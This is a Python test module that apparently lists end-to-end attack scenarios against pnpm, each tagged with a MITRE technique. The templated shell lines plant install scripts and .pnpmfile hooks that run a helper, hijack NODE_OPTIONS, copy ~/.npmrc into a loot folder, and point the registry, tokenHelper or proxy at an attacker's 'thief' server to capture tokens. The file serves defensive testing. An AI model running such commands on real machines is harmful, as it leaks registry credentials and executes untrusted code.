"""Attacks on pnpm: its helpers are links that everybody may run, and a folder of the attacker's has a say in it."""

from tests.e2e.attacks.tool_attacks import (
    THIEF,
    Attack,
    asks,
    elsewhere,
    genuine,
    renamed,
    rows,
    setting,
    told_to_show,
)
from tests.e2e.clients import pnpm

_FOLDER = 'mkdir -p {loot}/own && cd {loot}/own && echo \'{"name":"own","version":"1.0.0"%s}\' > package.json && '
_PLAIN = _FOLDER.replace("%s", "")
_STEALS = ',"scripts":{"preinstall":"echo ran: $({helper})","postinstall":"{helper}"}'
_EMULATED = _FOLDER.replace("%s", _STEALS) + r"printf 'packages: []\nshellEmulator: true\n' > pnpm-workspace.yaml && "
_NEEDS = ',"dependencies":{"needed":"file:."}'
_HOOKED = _FOLDER.replace("%s", _NEEDS) + (
    "printf %s \"require('fs').writeFileSync('log', 'ran: a hook' + "
    "require('child_process').spawnSync('{helper}').output); module.exports = {hooks: {readPackage: p => p}}\" "
    "> .pnpmfile.cjs && "
)

ROWS = rows(
    pnpm.CLIENT,
    asks("{helper}", "a process runs the helper of {name} itself"),
    Attack(
        "helper-settings",
        "a process runs the helper by the genuine {name}, which a setting tells that it is a shell",
        _PLAIN + "echo script-shell={helper} > .npmrc && {pnpm} exec {safe} {helper}; "
        "{pnpm} exec -c true; {pnpm} run {safe} nothing",
        mitre="T1218",
    ),
    renamed("cp {pnpm} ~/pnpm && ~/pnpm view {safe} {package} version"),
    Attack(
        "hooks",
        "the genuine {name} runs in a folder whose .pnpmfile.cjs asks; it is not told to run none",
        _HOOKED + "{pnpm} install --ignore-scripts",
        mitre="T1195.002",
    ),
    Attack(
        "scripts",
        "the genuine {name} runs in a folder whose scripts ask, in its own shell; it is not told to run none",
        _EMULATED + "{pnpm} install --ignore-pnpmfile",
        mitre="T1195.002",
    ),
    setting("NODE_OPTIONS is the attacker's", {"NODE_OPTIONS": "--require={programs}/view_read.js"}),
    setting("NODE_PATH is the attacker's", {"NODE_PATH": "{programs}"}, name="node-path"),
    setting(
        "NPM_CONFIG_USERCONFIG is the attacker's",
        {"NPM_CONFIG_USERCONFIG": "{loot}/npmrc"},
        "cp ~/.npmrc {loot}/npmrc",
        name="userconfig",
    ),
    elsewhere(_PLAIN + "echo registry=$at/ > .npmrc; {use}", thief="http://{first}"),
    Attack(
        "own-helper",
        "the agent's tool runs {name} in a folder that names the helper for the attacker's registry",
        THIEF.replace("{url}", "http://{first}")
        + _PLAIN
        + r'printf "registry=$at/\n${at#http:}/:tokenHelper={helper}\n" > .npmrc; {use}; '
        "{use} --config.${at#http:}/:tokenHelper={helper}; kill $thief",
        by_agent=True,
        mitre="T1567",
    ),
    told_to_show(
        "the agent's tool runs pnpm in a folder that names the attacker's proxy, at a registry without TLS",
        THIEF.replace("{url}", "http://{first}") + _PLAIN + "echo proxy=$at > .npmrc; {use}; kill $thief",
        "a registry with TLS; no rule for the agent; a token that can only read",
        name="proxy",
    ),
    genuine(),
)
